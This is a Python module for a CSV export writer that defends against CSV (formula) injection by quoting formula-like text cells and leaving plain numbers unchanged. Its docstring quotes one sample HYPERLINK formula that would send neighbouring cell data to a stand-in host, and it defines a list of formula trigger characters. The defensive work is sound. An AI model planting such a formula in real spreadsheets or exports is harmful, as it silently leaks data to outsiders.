"""The one CSV writer of every export: files that a spreadsheet opens without running
anything.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some of them, a
tab or a carriage return) as a formula: a place named `=HYPERLINK("http://evil.example/?x="
&A1,"x")` would send the neighbouring cells to a stranger from the funder's computer. Every
cell therefore goes through `cell()`, which follows the OWASP rule (« CSV injection »): such
a text is written with a single quote in front, which spreadsheets show as text.

What is a number stays a number, decided by the cell's type, with one rule for text:
- an `int`, `float` or `Decimal` is written as it is (`None` is an empty cell);
- a text that is a plain number — an optional sign, digits, an optional decimal part with
  `.` or `,`, an optional exponent: "-12,50" from our euro formatting, "-0.5792" for a
  longitude, "+33556000000" for a phone number in the standard's form — is written as it is:
  with nothing but digits after its sign, it cannot call anything;
- any other text that starts with one of `TRIGGERS` gets the quote.

The national standard's export goes through the same writer (with its `,` separator): its
values pass unchanged, except a hostile text, which stays a valid string for its schema.
"""

import csv
import io
import re
from decimal import Decimal

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?(?:[eE][+-]?[0-9]+)?")
QUOTE = "'"


def needs_quote(value):
    """True for a text that a spreadsheet would read as a formula."""
    return (isinstance(value, str) and value.startswith(TRIGGERS)
            and not PLAIN_NUMBER.fullmatch(value))


def cell(value):
    """The value as the writer writes it: numbers unchanged, formula-like text quoted."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    value = str(value)
    return QUOTE + value if needs_quote(value) else value


class Writer:
    """`csv.writer` whose every cell goes through `cell()`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """`csv.DictWriter` whose every cell (header included) goes through `cell()`."""

    def __init__(self, stream, fieldnames, **options):
        super().__init__(stream, fieldnames, **options)
        self.writer = Writer(stream, **{name: value for name, value in options.items()
                                        if name not in ("restval", "extrasaction")})


def writer(stream, *, delimiter=";", **options):
    """A writer for spreadsheet software as French users have it: `;` between cells."""
    return Writer(stream, delimiter=delimiter, **options)


def text(rows, *, delimiter=";", bom=True):
    """The CSV of `rows` as a string; with `bom`, a byte-order mark first so that accents
    survive in spreadsheet software."""
    buffer = io.StringIO()
    if bom:
        buffer.write("\ufeff")
    writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue()
